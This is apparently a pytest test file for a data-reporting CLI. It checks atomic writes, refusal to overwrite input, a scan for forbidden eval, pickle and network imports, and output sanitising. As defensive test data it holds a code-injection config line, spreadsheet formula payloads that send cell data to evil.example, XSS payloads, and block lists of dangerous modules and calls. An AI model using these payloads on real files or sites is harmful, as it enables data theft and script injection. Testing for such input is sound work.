"""Safe output: atomic writes, never over the input, no code or network from
configuration or data, CSV cells a spreadsheet would run are neutralised, and
HTML from the data is escaped."""

from __future__ import annotations

import ast
import csv
import errno
import os
import shutil
import socket
from pathlib import Path

import pytest

from tests.conftest import ROOT, run_cli

CORPUS = ROOT / "tests" / "corpus"
EXPORT = CORPUS / "generic_placeholders.csv"


# ---- atomic writes ------------------------------------------------------------


class _DiskFull:
    """A file object that writes half of what it is given, then fails as a full disk does."""

    def __init__(self, fh):
        self.fh = fh

    def write(self, data):
        self.fh.write(data[: len(data) // 2])
        self.fh.flush()
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.fh.close()


def test_a_write_that_fails_half_way_leaves_no_partial_file_and_no_temp_file(tmp_path, monkeypatch):
    import reports.output

    real_fdopen = os.fdopen
    monkeypatch.setattr(reports.output.os, "fdopen", lambda fd, mode: _DiskFull(real_fdopen(fd, mode)))
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli("report", EXPORT, "-o", out / "r.html", "--json", out / "r.json", "--quiet")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"Error: cannot write {out / 'r.html'}: No space left on device; nothing was written"
    assert list(out.iterdir()) == []


def test_a_failed_write_keeps_the_previous_report_whole(tmp_path, monkeypatch):
    import reports.output

    out = tmp_path / "r.html"
    out.write_text("yesterday's report")

    def fail(src, dst):
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(reports.output.os, "replace", fail)
    result = run_cli("report", EXPORT, "-o", out, "--quiet")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"Error: cannot write {out}: Input/output error; nothing was written"
    assert out.read_text() == "yesterday's report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.html"]


def test_a_folder_that_cannot_take_files_is_one_line_error(tmp_path, monkeypatch):
    import reports.output

    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(reports.output.tempfile, "mkstemp", refuse)  # root ignores a read-only folder
    result = run_cli("report", EXPORT, "-o", tmp_path / "r.html", "--quiet")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"Error: cannot write {tmp_path / 'r.html'}: Permission denied"


def test_a_written_file_is_complete_with_ordinary_permissions_and_no_temp_file(tmp_path):
    result = run_cli("report", EXPORT, "-o", tmp_path / "r.html", "--json", tmp_path / "r.json", "--quiet")
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.html", "r.json"]
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert html.rstrip().endswith("</html>")
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "r.html").stat().st_mode & 0o777 == 0o666 & ~umask


# ---- never over the input -----------------------------------------------------

REFUSALS = [
    pytest.param(["inspect", "{in}", "--json", "{in}"], id="inspect --json"),
    pytest.param(["mine", "{in}", "--json", "{in}"], id="mine --json"),
    pytest.param(["compare", "{in}", "--json", "{in}"], id="compare --json"),
    pytest.param(["report", "{in}", "-o", "{in}"], id="report -o"),
    pytest.param(["report", "{in}", "-o", "{dir}/r.html", "--json", "{in}"], id="report --json"),
    pytest.param(["report", "{in}", "-o", "{dir}/r.html", "--csv-dir", "{dir}"], id="report --csv-dir"),
    pytest.param(["report", "{in}", "-o", "{link}"], id="report -o through a symlink"),
    pytest.param(["design", "{in}", "-o", "{in}"], id="design -o"),
    pytest.param(["mapping", "init", "{in}", "-o", "{in}"], id="mapping init -o"),
]


@pytest.mark.parametrize("command", REFUSALS)
def test_the_input_is_never_overwritten(tmp_path, command):
    export = tmp_path / "tickets.csv"  # named as the --csv-dir tickets table
    shutil.copy(CORPUS / "generic_time_backwards.csv", export)
    (tmp_path / "alias.csv").symlink_to(export)
    before = export.read_bytes()
    args = [a.replace("{in}", str(export)).replace("{dir}", str(tmp_path)).replace("{link}", str(tmp_path / "alias.csv"))
            for a in command]
    result = run_cli(*args)
    assert result.exit_code == 2
    assert result.stderr == f"Error: refusing to overwrite the input file {export}; choose another output path\n", "refused before any work"
    assert export.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["alias.csv", "tickets.csv"], "nothing else written"


# ---- configuration is TOML, no code runs, no network ------------------------------

FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "urllib", "urllib3", "requests", "socket", "http",
                     "httpx", "aiohttp", "ftplib", "smtplib", "xmlrpc", "telnetlib", "webbrowser", "subprocess"}
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "read_pickle", "to_pickle", "unsafe_load"}


def _package_sources() -> list[Path]:
    return [p for pkg in ("connectors", "miner", "reports", "vsm") for p in (ROOT / pkg).rglob("*.py")]


# `vsm pull` is the one command that uses the network, through this one module, which only the pullers import.
NETWORK_MODULE = "connectors/http.py"
NETWORK_USERS = {"connectors/pull.py"}
NETWORK_LIBRARIES = {"requests", "urllib3"}  # its HTTP client; of urllib, only the URL parser


def test_no_eval_pickle_or_network_module_in_the_package_sources():
    found = []
    for path in _package_sources():
        where = path.relative_to(ROOT).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                forbidden = FORBIDDEN_MODULES - NETWORK_LIBRARIES if where == NETWORK_MODULE else FORBIDDEN_MODULES
                found += [f"{where}:{node.lineno} imports {n}" for n in names
                          if n.split(".")[0] in forbidden and not (where == NETWORK_MODULE and n == "urllib.parse")]
                if where not in NETWORK_USERS:
                    found += [f"{where}:{node.lineno} imports {n}" for n in names if n == "connectors.http"]
            elif isinstance(node, ast.Call):
                f = node.func
                name = f.id if isinstance(f, ast.Name) else f.attr if isinstance(f, ast.Attribute) and f.attr != "compile" else None
                if name in FORBIDDEN_CALLS:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno} calls {name}")
    assert len(_package_sources()) > 40
    assert found == []


def test_the_scan_would_see_a_forbidden_call(tmp_path):
    # The AST scan above, on code that does what it forbids.
    tree = ast.parse("import pickle\nfrom urllib import request\neval('1')\n")
    imports = [n for n in ast.walk(tree) if isinstance(n, ast.Import | ast.ImportFrom)]
    calls = [n.func.id for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)]
    assert len(imports) == 2 and calls == ["eval"]


def test_a_report_makes_no_network_connection(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("vsm tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    result = run_cli("report", CORPUS / "generic_html_js.csv", "-o", tmp_path / "r.html", "--json", tmp_path / "r.json",
                     "--csv-dir", tmp_path / "csv", "--quiet")
    assert result.exit_code == 0, result.stderr


def test_configuration_that_is_code_is_rejected_as_not_toml(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name, opt in (("mapping.toml", "--mapping"), ("design.toml", "--design")):
        config = tmp_path / name
        config.write_text("__import__('os').system('touch pwned')\n")
        result = run_cli("compare", CORPUS / "generic_time_backwards.csv", opt, config)
        assert result.exit_code == 2
        assert result.stderr.startswith(f"Error: {config}: not valid TOML: ")
    assert not (tmp_path / "pwned").exists()


# ---- what the data may hold ---------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    result = run_cli("report", CORPUS / "generic_formula_payloads.csv", "-o", tmp_path / "r.html", "--csv-dir", tmp_path / "csv", "--quiet")
    assert result.exit_code == 0, result.stderr
    cells = []
    for path in sorted((tmp_path / "csv").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            cells += [(path.name, cell) for row in csv.reader(fh) for cell in row]
    assert len(cells) > 100
    for _, cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only numbers, which a spreadsheet reads as numbers, may start so
    texts = {cell for _, cell in cells}
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in texts  # the activity
    assert "'=1+1" in texts  # the case id
    assert "'=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")" in texts  # a group
    assert not any(c.startswith("=HYPERLINK") or c.startswith("=1+1") for c in texts)


def test_html_from_the_data_is_escaped(tmp_path):
    result = run_cli("report", CORPUS / "generic_html_js.csv", "-o", tmp_path / "r.html", "--quiet")
    assert result.exit_code == 0, result.stderr
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    for payload in ("<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "</title><script>alert(3)</script>",
                    "<svg onload=alert(4)>", '" onmouseover="alert(5)'):
        assert payload not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "{{ 7*7 }}" not in html or "49" not in html.split("{{ 7*7 }}")[0][-40:]
    assert html.count("<script") == html.count("</script>") <= 2  # the report's own script and its JSON data
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;;' in html
